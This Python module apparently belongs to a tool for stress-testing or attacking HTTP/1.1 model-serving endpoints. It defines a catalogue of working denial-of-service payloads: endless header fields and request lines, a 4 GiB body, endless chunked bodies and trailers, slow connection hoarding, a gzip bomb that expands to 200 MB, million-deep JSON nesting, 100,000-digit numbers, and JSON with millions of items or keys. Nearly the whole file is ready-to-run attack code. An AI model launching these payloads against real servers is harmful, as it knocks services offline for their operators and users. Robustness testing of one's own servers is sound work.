"""Attacks over HTTP/1.1 with what is too large, or small and large when it is read."""

from __future__ import annotations

import gzip
import itertools
from typing import TYPE_CHECKING, Final

from .catalog import attack
from .driver import Burst

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .driver import Driver

_HEAD: Final = b"POST /generate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
_MIB: Final = 1 << 20
_PIECE: Final = 64 << 10


def _post(body: bytes, *fields: bytes, path: bytes = b"/generate") -> bytes:
    more = b"".join(field + b"\r\n" for field in fields)
    return _HEAD.replace(b"/generate", path) + more + b"content-length: %d\r\n\r\n" % len(body) + body


def _again(data: bytes) -> Iterator[Burst | float]:
    """The same request one after the other, without waiting for the answers."""
    yield from itertools.repeat(Burst(data))


def _endless(start: bytes, piece: bytes) -> Iterator[Burst | float]:
    yield Burst(start)
    yield from itertools.repeat(Burst(piece))


@attack("http", pace="flood")
def huge_headers(driver: Driver) -> None:
    """Sends a header field that never ends."""
    driver.play(lambda: _endless(_HEAD + b"x-huge: ", b"a" * _PIECE), 4)


@attack("http", pace="flood")
def many_headers(driver: Driver) -> None:
    """Sends header fields without end."""
    driver.play(lambda: _endless(_HEAD, b"x-more: 1\r\n" * 6000), 4)


@attack("http", pace="flood")
def huge_target(driver: Driver) -> None:
    """Sends a request line that never ends."""
    driver.play(lambda: _endless(b"GET /", b"a" * _PIECE), 4)


@attack("http", pace="flood")
def big_body(driver: Driver) -> None:
    """Announces a body of 4 GiB and sends it."""
    driver.play(lambda: _endless(_HEAD + b"content-length: 4294967296\r\n\r\n", b" " * _PIECE), 2)


@attack("http", pace="flood")
def big_chunked_body(driver: Driver) -> None:
    """Sends a body in chunks without end."""
    chunk = b"10000\r\n" + b" " * _PIECE + b"\r\n"
    driver.play(lambda: _endless(_HEAD + b"transfer-encoding: chunked\r\n\r\n", chunk), 2)


@attack("http", pace="flood")
def many_trailers(driver: Driver) -> None:
    """Ends a chunked body with trailers without end."""
    start = _HEAD + b"transfer-encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
    driver.play(lambda: _endless(start, b"x-more: 1\r\n" * 6000), 2)


@attack("http", pace="flood")
def tiny_chunks(driver: Driver) -> None:
    """Sends a body in chunks of one byte, as fast as it can."""
    driver.play(lambda: _endless(_HEAD + b"transfer-encoding: chunked\r\n\r\n", b"1\r\n \r\n" * 8000), 2)


@attack("http", pace="slow")
def hoarders(driver: Driver) -> None:
    """Sends 10 MB of a body of 60 MB on each of 8 connections, and no more."""
    start = _HEAD + b"content-length: %d\r\n\r\n" % (60 * _MIB)

    def script() -> Iterator[Burst | float]:
        yield Burst(start)
        yield from itertools.repeat(Burst(b" " * _PIECE), 160)

    driver.play(script, 8)


@attack("http", pace="flood")
def gzip_bomb(driver: Driver) -> None:
    """Sends a body of 200 KB that is 200 MB when unpacked."""
    bomb = _post(gzip.compress(bytes(200 * _MIB), 6), b"content-encoding: gzip")
    driver.play(lambda: _again(bomb), 4)


@attack("http", pace="flood")
def json_nesting(driver: Driver) -> None:
    """Sends JSON that is nested a million deep."""
    bodies = itertools.cycle([b"[" * _MIB, b'{"a":' * (_MIB // 5)])
    driver.play(lambda: _again(_post(next(bodies))), 4)


@attack("http", pace="flood")
def json_numbers(driver: Driver) -> None:
    """Sends JSON with numbers of a hundred thousand digits, and of exponents without end."""
    digits = b'{"text": "a", "sampling_params": {"max_new_tokens": ' + b"9" * 100_000 + b"}}"
    floats = b'{"text": "a", "sampling_params": {"temperature": 1e' + b"9" * 100_000 + b"}}"
    bodies = itertools.cycle([digits, floats])
    driver.play(lambda: _again(_post(next(bodies))), 4)


@attack("http", pace="flood")
def json_items(driver: Driver) -> None:
    """Sends 60 MB of JSON that are thirty million small items."""
    body = _post(b'{"input_ids": [' + b"1," * (29 * _MIB) + b"1]}")
    driver.play(lambda: _again(body), 1)


@attack("http", pace="flood")
def json_objects(driver: Driver) -> None:
    """Sends 8 MB of JSON that are two million empty objects, to the OpenAI API."""
    body = b'{"model": "null", "messages": [' + b"{}," * (2 * _MIB) + b"{}]}"
    driver.play(lambda: _again(_post(body, path=b"/v1/chat/completions")), 1)


@attack("http", pace="flood")
def prompt_logprobs(driver: Driver) -> None:
    """Asks the OpenAI API for the log-probabilities of 50,000 tokens of a prompt, with alternatives."""
    body = b'{"model": "null", "max_tokens": 1, "echo": true, "logprobs": 5, "prompt": "%b"}' % (
        b"a" * 50_000
    )
    driver.play(lambda: _again(_post(body, path=b"/v1/completions")), 1)


@attack("http", pace="flood")
def json_keys(driver: Driver) -> None:
    """Sends JSON with 300,000 unknown keys, none like another."""
    body = _post(b"{" + b",".join(b'"key%d": 1' % n for n in range(300_000)) + b"}")
    driver.play(lambda: _again(body), 2)
